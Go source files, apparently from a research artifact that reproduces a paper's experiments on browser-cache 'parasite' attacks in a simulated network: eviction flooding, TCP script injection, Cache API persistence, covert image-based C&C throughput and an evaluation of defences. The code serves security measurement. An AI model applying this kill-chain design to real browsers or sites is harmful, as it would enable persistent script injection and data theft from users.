// TableIRow is one row of the eviction evaluation.
type TableIRow struct {
	Browser     string `json:"browser"`
	Version     string `json:"version"`
	Eviction    bool   `json:"eviction"`
	InterDomain bool   `json:"inter_domain"`
	SizeNote    string `json:"size_note"`
	Remark      string `json:"remark"`
	OOMKilled   bool   `json:"oom_killed"`
}

// TableIData is the Table I dataset.
type TableIData []TableIRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d TableIData) Table() (header []string, rows [][]string) {
	header = []string{"browser", "version", "eviction", "inter_domain", "size_note", "remark", "oom_killed"}
	for _, r := range d {
		rows = append(rows, []string{r.Browser, r.Version, fbool(r.Eviction),
			fbool(r.InterDomain), r.SizeNote, r.Remark, fbool(r.OOMKilled)})
	}
	return header, rows
}

// TableI reproduces the cache-eviction evaluation: for every browser
// profile, prime the cache with objects of two victim domains, run the
// Fig. 1 eviction flood through the full network path, and observe
// whether the victims' objects were supplanted (and whether the browser
// survived). Each profile is one independent scenario job.
func TableI(env artifact.Env) (*artifact.Result, error) {
	rows, err := runner.Map(env.Runner, browser.TableIProfiles(), func(_ int, p browser.Profile) (TableIRow, error) {
		return tableIRow(p)
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-9s %-17s %-3s %-4s %-9s %s\n", "Browser", "Version", "Ev.", "I.D.", "Size", "Remarks")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-9s %-17s %-3s %-4s %-9s %s\n",
			r.Browser, r.Version, mark(r.Eviction), mark(r.InterDomain), r.SizeNote, r.Remark)
	}
	return &artifact.Result{Text: b.String(), Dataset: TableIData(rows)}, nil
}

// tableIRow runs the eviction evaluation for one browser profile in a
// fresh, self-contained scenario.
func tableIRow(p browser.Profile) (TableIRow, error) {
	scaled := scaleProfile(p)
	s, err := core.NewScenario(core.Config{ProfileOverride: &scaled, Seed: 31})
	if err != nil {
		return TableIRow{}, fmt.Errorf("table I %s: %w", p.UserAgent(), err)
	}
	// Two victim domains to separate "evicts at all" from
	// "inter-domain eviction".
	for _, d := range []string{"popular.com", "other.com"} {
		s.AddPage(d, "/", fmt.Sprintf(`<html><body><script src="/app.js"></script></body></html>`), nil)
		s.AddPage(d, "/app.js", "function "+strings.ReplaceAll(d, ".", "_")+"(){}",
			map[string]string{"Cache-Control": "max-age=86400", "Content-Type": "application/javascript"})
	}
	s.AddPage("any.com", "/", `<html><body>benign</body></html>`, map[string]string{"Cache-Control": "no-store"})

	if _, err := s.Visit("popular.com", "/"); err != nil {
		return TableIRow{}, fmt.Errorf("table I prime: %w", err)
	}
	if _, err := s.Visit("other.com", "/"); err != nil {
		return TableIRow{}, fmt.Errorf("table I prime: %w", err)
	}

	// Flood 1.5× the cache budget in junk.
	junkSize := 4096
	junkCount := int(scaled.CacheSize)*3/2/junkSize + 1
	s.Master.EnableEviction(core.JunkHost, junkCount, junkSize, "any.com")
	_, verr := s.Visit("any.com", "/")

	evicted := !s.Victim.Cache().Contains("popular.com", "popular.com/app.js")
	interDomain := evicted && !s.Victim.Cache().Contains("other.com", "other.com/app.js")
	oom := s.Victim.OOMKilled() || verr != nil
	if oom {
		// The browser died instead of evicting: IE's failure mode.
		evicted = false
		interDomain = false
	}
	return TableIRow{
		Browser: p.Name + map[bool]string{true: "*", false: ""}[p.Incognito], Version: p.Version,
		Eviction: evicted, InterDomain: interDomain,
		SizeNote: p.SizeNote, Remark: p.Remark, OOMKilled: oom,
	}, nil
}

// TableIICell is one OS×browser injection outcome.
type TableIICell struct {
	OS       browser.OS `json:"os"`
	Browser  string     `json:"browser"`
	Exists   bool       `json:"exists"` // n/a when false
	Injected bool       `json:"injected"`
}

// TableIIData is the Table II dataset.
type TableIIData []TableIICell

// Table flattens the dataset for the CSV and Markdown renderers.
func (d TableIIData) Table() (header []string, rows [][]string) {
	header = []string{"os", "browser", "exists", "injected"}
	for _, c := range d {
		rows = append(rows, []string{string(c.OS), c.Browser, fbool(c.Exists), fbool(c.Injected)})
	}
	return header, rows
}

// TableII reproduces the TCP-injection evaluation across every existing
// OS × browser pair: set up the WiFi victim, arm the infection module,
// visit the target site and check whether the parasite landed in cache.
// Every OS × browser pair is one independent scenario job.
func TableII(env artifact.Env) (*artifact.Result, error) {
	type pair struct {
		os browser.OS
		p  browser.Profile
	}
	var pairs []pair
	for _, os := range browser.AllOSes() {
		for _, p := range browser.TableIIBrowsers() {
			pairs = append(pairs, pair{os: os, p: p})
		}
	}
	cells, err := runner.Map(env.Runner, pairs, func(_ int, pr pair) (TableIICell, error) {
		cell := TableIICell{OS: pr.os, Browser: pr.p.Name, Exists: pr.p.RunsOn(pr.os)}
		if cell.Exists {
			ok, err := injectionSucceeds(pr.p, pr.os)
			if err != nil {
				return cell, fmt.Errorf("table II %s/%s: %w", pr.p.Name, pr.os, err)
			}
			cell.Injected = ok
		}
		return cell, nil
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-8s", "OS")
	for _, p := range browser.TableIIBrowsers() {
		fmt.Fprintf(&b, " %-8s", p.Name)
	}
	b.WriteString("\n")
	i := 0
	for _, os := range browser.AllOSes() {
		fmt.Fprintf(&b, "%-8s", os)
		for range browser.TableIIBrowsers() {
			c := cells[i]
			i++
			switch {
			case !c.Exists:
				fmt.Fprintf(&b, " %-8s", "n/a")
			default:
				fmt.Fprintf(&b, " %-8s", mark(c.Injected))
			}
		}
		b.WriteString("\n")
	}
	return &artifact.Result{Text: b.String(), Dataset: TableIIData(cells)}, nil
}

func injectionSucceeds(p browser.Profile, os browser.OS) (bool, error) {
	s, err := core.NewScenario(core.Config{ProfileOverride: &p, OS: os, Seed: 17})
	if err != nil {
		return false, err
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, nil)
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
	cfg := parasite.NewConfig("t2", "bot-t2", core.MasterHost)
	cfg.Propagate = false
	cfg.Anchor = false
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{
		Name: "somesite.com/my.js", Kind: attacker.KindJS,
		ParasitePayload: "t2", Original: []byte("function original(){}"),
	})
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		return false, err
	}
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			return true, nil
		}
	}
	return false, nil
}

// TableIIIRow is one refresh-method evaluation row.
type TableIIIRow struct {
	Browser           string `json:"browser"`
	SupportsCacheAPI  bool   `json:"supports_cache_api"`
	CtrlF5Removes     bool   `json:"ctrl_f5_removes"`
	ClearCacheRemoves bool   `json:"clear_cache_removes"`
	CookiesRemoves    bool   `json:"cookies_removes"`
}

// TableIIIData is the Table III dataset.
type TableIIIData []TableIIIRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d TableIIIData) Table() (header []string, rows [][]string) {
	header = []string{"browser", "supports_cache_api", "ctrl_f5_removes", "clear_cache_removes", "cookies_removes"}
	for _, r := range d {
		rows = append(rows, []string{r.Browser, fbool(r.SupportsCacheAPI),
			fbool(r.CtrlF5Removes), fbool(r.ClearCacheRemoves), fbool(r.CookiesRemoves)})
	}
	return header, rows
}

// TableIII reproduces the refresh-method evaluation: a parasite anchored
// in the Cache API must survive Ctrl+F5 and cache clearing, and fall only
// to cookie (site-data) clearing. Every (browser, method) combination is
// one independent scenario job; rows are folded back in profile order.
func TableIII(env artifact.Env) (*artifact.Result, error) {
	var profiles []browser.Profile
	for _, p := range browser.TableIProfiles() {
		if p.Incognito {
			continue // Table III lists the five base browsers
		}
		profiles = append(profiles, p)
	}
	methods := []string{"ctrlf5", "clearcache", "clearcookies"}
	type job struct {
		p      browser.Profile
		method string
	}
	type verdict struct {
		browser string
		method  string
		removed bool
	}
	var jobs []job
	for _, p := range profiles {
		if !p.SupportsCacheAPI {
			continue
		}
		for _, m := range methods {
			jobs = append(jobs, job{p: p, method: m})
		}
	}
	verdicts, err := runner.Map(env.Runner, jobs, func(_ int, j job) (verdict, error) {
		ok, err := refreshRemovesParasite(j.p, j.method)
		if err != nil {
			return verdict{}, fmt.Errorf("table III %s %s: %w", j.p.Name, j.method, err)
		}
		return verdict{browser: j.p.Name, method: j.method, removed: ok}, nil
	})
	if err != nil {
		return nil, err
	}

	byBrowser := make(map[string]int)
	rows := make([]TableIIIRow, 0, len(profiles))
	for i, p := range profiles {
		rows = append(rows, TableIIIRow{Browser: p.Name, SupportsCacheAPI: p.SupportsCacheAPI})
		byBrowser[p.Name] = i
	}
	for _, v := range verdicts {
		row := &rows[byBrowser[v.browser]]
		switch v.method {
		case "ctrlf5":
			row.CtrlF5Removes = v.removed
		case "clearcache":
			row.ClearCacheRemoves = v.removed
		case "clearcookies":
			row.CookiesRemoves = v.removed
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-9s %-8s %-12s %-13s\n", "Browser", "Ctrl+F5", "clear cache", "clear cookies")
	for _, r := range rows {
		if !r.SupportsCacheAPI {
			fmt.Fprintf(&b, "%-9s %-8s %-12s %-13s\n", r.Browser, "n/a", "n/a", "n/a")
			continue
		}
		fmt.Fprintf(&b, "%-9s %-8s %-12s %-13s\n", r.Browser,
			mark(r.CtrlF5Removes), mark(r.ClearCacheRemoves), mark(r.CookiesRemoves))
	}
	return &artifact.Result{Text: b.String(), Dataset: TableIIIData(rows)}, nil
}

func refreshRemovesParasite(p browser.Profile, method string) (bool, error) {
	s, err := core.NewScenario(core.Config{ProfileOverride: &p, Seed: 23})
	if err != nil {
		return false, err
	}
	s.AddPage("top1.com", "/", `<html><body><script src="/persistent.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("top1.com", "/persistent.js", "function lib(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
	cfg := parasite.NewConfig("t3", "bot-t3", core.MasterHost)
	cfg.Propagate = false
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{
		Name: "top1.com/persistent.js", Kind: attacker.KindJS,
		ParasitePayload: "t3", Original: []byte("function lib(){}"),
	})
	if _, err := s.Visit("top1.com", "/"); err != nil {
		return false, err
	}
	if s.Victim.CacheAPI().Len() == 0 {
		return false, fmt.Errorf("parasite failed to anchor in the Cache API")
	}
	s.LeaveAttackerNetwork()

	switch method {
	case "ctrlf5":
		if _, err := s.VisitHard("top1.com", "/"); err != nil {
			return false, err
		}
	case "clearcache":
		s.Victim.ClearCache()
	case "clearcookies":
		s.Victim.ClearCookies()
	}
	// Table III asks whether the method removed the object stored with
	// the Cache API — the parasite's persistence anchor.
	if s.Victim.CacheAPI().Len() > 0 {
		return false, nil // anchor survived: the method did NOT remove it
	}
	// The anchor is gone. Confirm end-to-end removal: with the HTTP cache
	// also cleared (the paper: "cleaning up the cache does not suffice
	// ... the cookies must also be deleted"), the next visit must load
	// the genuine script from the network.
	s.Victim.ClearCache()
	page, err := s.Visit("top1.com", "/")
	if err != nil {
		return false, err
	}
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			return false, nil
		}
	}
	return true, nil
}

// infectedJS builds a canonical infected response body for shared-cache
// experiments.
func infectedJS() *httpsim.Response {
	body := script.Embed([]byte("function lib(){}"), "parasite", "px")
	resp := httpsim.NewResponse(200, body)
	resp.Header.Set("Cache-Control", httpcache.MaxFreshness)
	return resp
}
