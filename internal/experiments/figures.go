package experiments

import (
	"bytes"
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/cnc"
	"masterparasite/internal/core"
	"masterparasite/internal/crawler"
	"masterparasite/internal/netsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/webcorpus"
)

// Figure3 reproduces the persistency measurement: a daily crawl of the
// synthetic Alexa population, rendered as the three curves of the
// figure. The crawl fans out per-day jobs on the runner.
func Figure3(env artifact.Env) (*artifact.Result, error) {
	sites, days := env.Param("sites"), env.Param("days")
	corpus := webcorpus.Generate(webcorpus.Params{Sites: sites, Seed: int64(env.Param("seed"))})
	res := crawler.CrawlPersistency(env.Runner, corpus, days)

	var b strings.Builder
	fmt.Fprintf(&b, "sites crawled: %d, days: %d\n", res.Sites, days)
	fmt.Fprintf(&b, "%-6s %-10s %-18s %-18s\n", "day", "any .js", "persistent(hash)", "persistent(name)")
	for _, day := range []int{0, 1, 5, 10, 20, 40, 60, 80, days} {
		if day > days {
			continue
		}
		p := res.At(day)
		fmt.Fprintf(&b, "%-6d %-10.2f %-18.2f %-18.2f\n", p.Day, p.AnyJS, p.PersistentHash, p.PersistentName)
	}
	p5, pEnd := res.At(5), res.At(days)
	fmt.Fprintf(&b, "\npaper anchors: ≈87.5%% name-persistent @5d (measured %.1f%%), ≈75.3%% @100d (measured %.1f%%)\n",
		p5.PersistentName, pEnd.PersistentName)
	return &artifact.Result{Text: b.String(), Dataset: res}, nil
}

// Figure5 reproduces the CSP statistics plus the §V HSTS/HTTPS survey.
// The survey fans out per-site jobs on the runner.
func Figure5(env artifact.Env) (*artifact.Result, error) {
	corpus := webcorpus.Generate(webcorpus.Params{Sites: env.Param("sites"), Seed: int64(env.Param("seed"))})
	s := crawler.SurveyHeaders(env.Runner, corpus)
	s.AnalyticsShare = crawler.AnalyticsShare(corpus)

	var b strings.Builder
	fmt.Fprintf(&b, "population: %d sites, %d responders\n\n", s.Sites, s.Responders)
	fmt.Fprintf(&b, "§V transport security (paper: 21%% no HTTPS, ~7%% vulnerable SSL)\n")
	fmt.Fprintf(&b, "  no HTTPS:         %6.2f%%\n", s.NoHTTPSShare)
	fmt.Fprintf(&b, "  vulnerable SSL:   %6.2f%%\n", s.VulnSSLShare)
	fmt.Fprintf(&b, "§V HSTS (paper: 67.92%% without HSTS, 96.59%% SSL-strippable)\n")
	fmt.Fprintf(&b, "  no HSTS:          %6.2f%% (%d responders)\n", s.NoHSTSShare, s.NoHSTSCount)
	fmt.Fprintf(&b, "  preloaded:        %d\n", s.PreloadCount)
	fmt.Fprintf(&b, "  SSL-strippable:   %6.2f%%\n", s.StrippableShare)
	fmt.Fprintf(&b, "Fig. 5 CSP statistics (paper: ~4.7%% supply CSP, 15.3%% deprecated)\n")
	fmt.Fprintf(&b, "  CSP header:       %6.2f%%\n", s.CSPHeaderShare)
	fmt.Fprintf(&b, "  with rules:       %6.2f%%\n", s.CSPRulesShare)
	fmt.Fprintf(&b, "  deprecated share: %6.2f%%\n", s.DeprecatedShare)
	fmt.Fprintf(&b, "  versions:         %v\n", s.VersionCounts)
	fmt.Fprintf(&b, "  connect-src uses: %d (wildcard: %d — paper: 160 uses, 17 wildcards)\n",
		s.ConnectSrcUses, s.ConnectSrcStar)
	fmt.Fprintf(&b, "§VI-B1 shared analytics script: %.1f%% of sites (paper: 63%%)\n",
		s.AnalyticsShare)
	return &artifact.Result{Text: b.String(), Dataset: s}, nil
}

// CNCReport is the §VI-C throughput measurement.
type CNCReport struct {
	PayloadBytes        int     `json:"payload_bytes"`
	DownstreamLoopback  float64 `json:"downstream_loopback_bps"`  // B/s, 16-way concurrent, zero RTT
	DownstreamRTTConc   float64 `json:"downstream_rtt_conc_bps"`  // B/s, 16-way concurrent, 1 ms simulated RTT
	DownstreamRTTSeq    float64 `json:"downstream_rtt_seq_bps"`   // B/s, sequential, 1 ms simulated RTT
	UpstreamThroughput  float64 `json:"upstream_bps"`             // B/s
	BytesPerImage       int     `json:"bytes_per_image"`          // payload bytes per covert image
	OverheadBytesPerImg int     `json:"overhead_bytes_per_image"` // rendered SVG size
}

// Table flattens the report into metric/value rows.
func (r CNCReport) Table() (header []string, rows [][]string) {
	header = []string{"metric", "value"}
	f := func(v float64) string { return strconv.FormatFloat(v, 'f', 0, 64) }
	rows = [][]string{
		{"payload_bytes", fint(r.PayloadBytes)},
		{"downstream_loopback_bps", f(r.DownstreamLoopback)},
		{"downstream_rtt_conc_bps", f(r.DownstreamRTTConc)},
		{"downstream_rtt_seq_bps", f(r.DownstreamRTTSeq)},
		{"upstream_bps", f(r.UpstreamThroughput)},
		{"bytes_per_image", fint(r.BytesPerImage)},
		{"overhead_bytes_per_image", fint(r.OverheadBytesPerImg)},
	}
	return header, rows
}

// CNCThroughput measures the covert channel over a real loopback HTTP
// server. The headline rate uses the raw loopback; the concurrency
// comparison adds a 1 ms simulated RTT, because the channel is RTT-bound
// — which is exactly why the paper's 100 KB/s needs "a client which sends
// requests for multiple images simultaneously".
func CNCThroughput(env artifact.Env) (*artifact.Result, error) {
	payload := env.Param("payload")
	master := cnc.NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		return nil, err
	}
	defer func() { _ = shutdown() }()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	measure := func(tag string, data []byte, conc, batch int) (float64, error) {
		bot := &cnc.Bot{BaseURL: base, ID: fmt.Sprintf("bot-%s", tag), Concurrency: conc, BatchSize: batch}
		master.QueueCommand(bot.ID, data)
		start := time.Now()
		got, _, ok, err := bot.Poll(ctx)
		if err != nil || !ok {
			return 0, fmt.Errorf("poll failed: ok=%v err=%w", ok, err)
		}
		if !bytes.Equal(got, data) {
			return 0, fmt.Errorf("payload corrupted")
		}
		return float64(len(data)) / time.Since(start).Seconds(), nil
	}

	data := bytes.Repeat([]byte("C"), payload)
	loopback, err := measure("raw", data, 16, 0) // sprite-batched bulk path
	if err != nil {
		return nil, err
	}

	// RTT-bound comparison on a smaller payload (sequential at 1 ms per
	// request is slow by design — that is the point). Batching is pinned
	// to one image per request here: the paper's concurrency claim is
	// about a browser issuing many *individual* image fetches at once.
	master.Delay = time.Millisecond
	small := bytes.Repeat([]byte("c"), 2048)
	rttConc, err := measure("rtt-conc", small, 16, 1)
	if err != nil {
		return nil, err
	}
	rttSeq, err := measure("rtt-seq", small, 1, 1)
	if err != nil {
		return nil, err
	}
	master.Delay = 0

	upBot := &cnc.Bot{BaseURL: base, ID: "bot-up", Concurrency: 16}
	start := time.Now()
	if err := upBot.Upload(ctx, "bulk", data); err != nil {
		return nil, err
	}
	upRate := float64(payload) / time.Since(start).Seconds()

	svg := cnc.RenderSVG(cnc.Dim{W: 65535, H: 65535})
	rep := CNCReport{
		PayloadBytes:        payload,
		DownstreamLoopback:  loopback,
		DownstreamRTTConc:   rttConc,
		DownstreamRTTSeq:    rttSeq,
		UpstreamThroughput:  upRate,
		BytesPerImage:       cnc.BytesPerImage,
		OverheadBytesPerImg: len(svg),
	}
	var b strings.Builder
	fmt.Fprintf(&b, "payload: %d bytes, %d images of ~%d bytes (4 payload bytes each)\n",
		payload, cnc.ImagesNeeded(payload), rep.OverheadBytesPerImg)
	fmt.Fprintf(&b, "downstream, loopback, 16 concurrent:   %10.0f B/s\n", loopback)
	fmt.Fprintf(&b, "downstream, 1ms RTT, 16 concurrent:    %10.0f B/s\n", rttConc)
	fmt.Fprintf(&b, "downstream, 1ms RTT, sequential:       %10.0f B/s\n", rttSeq)
	fmt.Fprintf(&b, "upstream (URL-encoded):                %10.0f B/s\n", upRate)
	fmt.Fprintf(&b, "paper claim: ≈100KB/s downstream with simultaneous image requests\n")
	return &artifact.Result{Text: b.String(), Dataset: rep}, nil
}

// FlowEvent is one traced frame of a message-flow phase.
type FlowEvent struct {
	TimeMs float64 `json:"time_ms"`
	Src    string  `json:"src"`
	Dst    string  `json:"dst"`
	Bytes  int     `json:"bytes"`
}

// FlowPhase is one figure's traced message sequence.
type FlowPhase struct {
	Name   string      `json:"name"`
	Events []FlowEvent `json:"events"`
}

// FlowsData is the Figures 1/2/4 dataset.
type FlowsData []FlowPhase

// Table flattens the dataset for the CSV and Markdown renderers.
func (d FlowsData) Table() (header []string, rows [][]string) {
	header = []string{"phase", "time_ms", "src", "dst", "bytes"}
	for _, p := range d {
		for _, e := range p.Events {
			rows = append(rows, []string{p.Name,
				strconv.FormatFloat(e.TimeMs, 'f', 2, 64), e.Src, e.Dst, fint(e.Bytes)})
		}
	}
	return header, rows
}

// MessageFlows renders the Fig. 1 / Fig. 2 / Fig. 4 message sequences by
// tracing a scripted kill-chain run.
func MessageFlows(artifact.Env) (*artifact.Result, error) {
	s, err := core.NewScenario(core.Config{Seed: 77})
	if err != nil {
		return nil, err
	}
	tl := netsim.NewTraceLog()
	defer tl.Release()
	s.Net.SetTrace(func(e netsim.TraceEvent) {
		if !e.Tapped {
			tl.Append(e)
		}
	})
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	s.AddPage("top1.com", "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
	s.AddPage("top1.com", "/persistent.js", "function lib(){}",
		map[string]string{"Cache-Control": "max-age=600"})

	cfg := parasite.NewConfig("flow", "bot-flow", core.MasterHost)
	cfg.PropagationTargets = []string{"top1.com"}
	s.Registry.Add(cfg)
	for _, name := range []string{"somesite.com/my.js", "top1.com/persistent.js"} {
		s.Master.AddTarget(attacker.Target{Name: name, Kind: attacker.KindJS,
			ParasitePayload: "flow", Original: []byte("function original(){}")})
	}
	s.Master.EnableEviction(core.JunkHost, 4, 1024, "any.com")
	s.AddPage("any.com", "/", "<html><body>x</body></html>", map[string]string{"Cache-Control": "no-store"})

	// Phase 1 (Fig. 1): eviction. Phase 2 (Fig. 2): infection +
	// propagation. Phase 3 (Fig. 4): C&C from the home network.
	phase := func(name string, fn func() error) (FlowPhase, error) {
		tl.Reset()
		if err := fn(); err != nil {
			return FlowPhase{}, err
		}
		p := FlowPhase{Name: name}
		for _, e := range tl.Events() {
			p.Events = append(p.Events, FlowEvent{
				TimeMs: float64(e.Time.Microseconds()) / 1000,
				Src:    string(e.Src), Dst: string(e.Dst), Bytes: e.Size,
			})
		}
		return p, nil
	}
	var phases FlowsData
	p, err := phase("Fig. 1: cache eviction", func() error {
		_, err := s.Visit("any.com", "/")
		return err
	})
	if err != nil {
		return nil, err
	}
	phases = append(phases, p)
	p, err = phase("Fig. 2: cache infection + propagation", func() error {
		_, err := s.Visit("somesite.com", "/")
		return err
	})
	if err != nil {
		return nil, err
	}
	phases = append(phases, p)
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-flow", []byte("noop|"))
	p, err = phase("Fig. 4: C&C after moving networks", func() error {
		_, err := s.Visit("top1.com", "/")
		return err
	})
	if err != nil {
		return nil, err
	}
	phases = append(phases, p)

	var out strings.Builder
	for _, ph := range phases {
		fmt.Fprintf(&out, "--- %s ---\n", ph.Name)
		for _, e := range ph.Events {
			fmt.Fprintf(&out, "%8.2fms  %-12s → %-12s  %4dB\n", e.TimeMs, e.Src, e.Dst, e.Bytes)
		}
	}
	return &artifact.Result{Text: out.String(), Dataset: phases}, nil
}
