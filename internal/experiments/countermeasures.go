package experiments

import (
	"fmt"
	"strings"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/parasite"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// CountermeasureRow is one §VIII defence evaluated against the kill chain.
type CountermeasureRow struct {
	Defence string `json:"defence"`
	// Infected: did the initial injection deliver the parasite?
	Infected bool `json:"infected"`
	// Persisted: did the parasite survive leaving the attacker network?
	Persisted bool `json:"persisted"`
	// Propagated: how many origins ended up infected (1 = contained).
	Propagated int `json:"propagated"`
	// CNCWorked: did a queued command execute and exfiltrate?
	CNCWorked bool   `json:"cnc_worked"`
	Note      string `json:"note"`
}

// CountermeasuresData is the §VIII dataset.
type CountermeasuresData []CountermeasureRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d CountermeasuresData) Table() (header []string, rows [][]string) {
	header = []string{"defence", "infected", "persisted", "propagated", "cnc_worked", "note"}
	for _, r := range d {
		rows = append(rows, []string{r.Defence, fbool(r.Infected), fbool(r.Persisted),
			fint(r.Propagated), fbool(r.CNCWorked), r.Note})
	}
	return header, rows
}

// Countermeasures reproduces §VIII: each recommended defence (plus the
// TCP-reassembly ablation) runs against the full kill chain, and the row
// records which stages it stops. Every defence variant is one
// independent scenario job.
func Countermeasures(env artifact.Env) (*artifact.Result, error) {
	type variant struct {
		name string
		cfg  core.Config
		prep func(*core.Scenario)
		note string
	}
	variants := []variant{
		{name: "none (baseline)", cfg: core.Config{Seed: 61}},
		{
			name: "HTTPS on target", cfg: core.Config{Seed: 61},
			prep: func(s *core.Scenario) { s.SetTLS("somesite.com", true); s.SetTLS("top1.com", true) },
			note: "injection needs plaintext",
		},
		{
			name: "HTTPS + fraudulent cert",
			cfg:  core.Config{Seed: 61, FraudulentCertHosts: []string{"somesite.com", "top1.com"}},
			prep: func(s *core.Scenario) { s.SetTLS("somesite.com", true); s.SetTLS("top1.com", true) },
			note: "mis-issued certificate voids TLS (§V)",
		},
		{
			name: "cache partitioning",
			cfg:  core.Config{Seed: 61, ProfileOverride: partitionedChrome()},
			note: "blocks shared-entry reuse only; iframe propagation unaffected (paper: partitioning is inefficient)",
		},
		{
			name: "random query string on scripts", cfg: core.Config{Seed: 61},
			prep: func(s *core.Scenario) { s.Victim.DefenseRandomQuery = true },
			note: "poisoned cache entries never re-hit",
		},
		{
			name: "strict CSP on pages", cfg: core.Config{Seed: 61},
			prep: func(s *core.Scenario) { s.StrictCSP = true },
			note: "C&C and iframe propagation blocked while CSP delivered",
		},
		{
			name: "last-wins reassembly (ablation)",
			cfg:  core.Config{Seed: 61, ReassemblyPolicy: tcpsim.LastWins},
			note: "attack depends on race win, not overlap policy",
		},
	}

	rows, err := runner.Map(env.Runner, variants, func(_ int, v variant) (CountermeasureRow, error) {
		row, err := runCountermeasure(v.cfg, v.prep)
		if err != nil {
			return row, fmt.Errorf("countermeasure %q: %w", v.name, err)
		}
		row.Defence = v.name
		row.Note = v.note
		return row, nil
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-32s %-9s %-10s %-11s %-5s %s\n", "Defence", "Infected", "Persisted", "Propagated", "C&C", "Note")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-32s %-9s %-10s %-11d %-5s %s\n",
			r.Defence, mark(r.Infected), mark(r.Persisted), r.Propagated, mark(r.CNCWorked), r.Note)
	}
	return &artifact.Result{Text: b.String(), Dataset: CountermeasuresData(rows)}, nil
}

func partitionedChrome() *browser.Profile {
	p, err := browser.ProfileByName("Chrome")
	if err != nil {
		return nil
	}
	p.PartitionedCache = true
	return &p
}

func runCountermeasure(cfg core.Config, prep func(*core.Scenario)) (CountermeasureRow, error) {
	var row CountermeasureRow
	s, err := core.NewScenario(cfg)
	if err != nil {
		return row, err
	}
	csp := map[string]string{}
	if prep != nil {
		prep(s)
	}
	if s.StrictCSP {
		csp["Content-Security-Policy"] = "default-src 'self'"
	}
	hdr := map[string]string{"Cache-Control": "no-store"}
	for k, v := range csp {
		hdr[k] = v
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, hdr)
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
	s.AddPage("top1.com", "/", `<html><body><script src="/persistent.js"></script></body></html>`, hdr)
	s.AddPage("top1.com", "/persistent.js", "function lib(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})

	pcfg := parasite.NewConfig("cm", "bot-cm", core.MasterHost)
	pcfg.PropagationTargets = []string{"top1.com"}
	pcfg.Modules["ping"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
		exfil("ping", []byte("pong from "+env.PageHost()))
		return nil
	}
	s.Registry.Add(pcfg)
	for _, name := range []string{"somesite.com/my.js", "top1.com/persistent.js"} {
		s.Master.AddTarget(attacker.Target{Name: name, Kind: attacker.KindJS,
			ParasitePayload: "cm", Original: []byte("function original(){}")})
	}

	// Stage 1: infection attempt on the attacker's network.
	page, _ := s.Visit("somesite.com", "/")
	if page != nil {
		for _, sc := range page.Scripts {
			if script.Infected(sc.Content) {
				row.Infected = true
			}
		}
	}
	row.Propagated = len(s.Registry.InfectedOrigins("bot-cm"))

	// Stage 2: persistence after leaving, plus C&C.
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-cm", []byte("ping|"))
	page2, _ := s.Visit("somesite.com", "/")
	if page2 != nil {
		for _, sc := range page2.Scripts {
			if script.Infected(sc.Content) {
				row.Persisted = true
			}
		}
	}
	if _, ok := s.CNC.Upload("bot-cm", "ping"); ok {
		row.CNCWorked = true
	}
	return row, nil
}
