package experiments

import "masterparasite/internal/artifact"

// Shared parameter declarations. Specs sharing a name must agree on
// the declaration (the registry enforces it), and frontends expose one
// flag per name.
var (
	paramSites    = artifact.Param{Name: "sites", Usage: "corpus size for fig3/fig5 (paper: 15000)", Default: 3000, Min: 1}
	paramDays     = artifact.Param{Name: "days", Usage: "study length in days for fig3", Default: 100, Min: 1}
	paramSeed     = artifact.Param{Name: "seed", Usage: "corpus seed for fig3/fig5", Default: 1, Min: 1}
	paramPayload  = artifact.Param{Name: "payload", Usage: "C&C payload bytes for the throughput run", Default: 64 * 1024, Min: 1}
	paramAttempts = artifact.Param{Name: "attempts", Usage: "injection attempts per link profile for conditions", Default: 5, Min: 1}
	paramLANs     = artifact.Param{Name: "lans", Usage: "LAN shards for the fleet/* artifacts", Default: 16, Min: 1}
	paramBots     = artifact.Param{Name: "bots", Usage: "victims per LAN for the fleet/* artifacts", Default: 250, Min: 1}
)

// init self-registers every experiment as an artifact.Spec, in the
// paper's canonical order — the order `-run all` regenerates. This is
// the per-experiment index: frontends discover entry points, params,
// and seeds exclusively through the registry.
func init() {
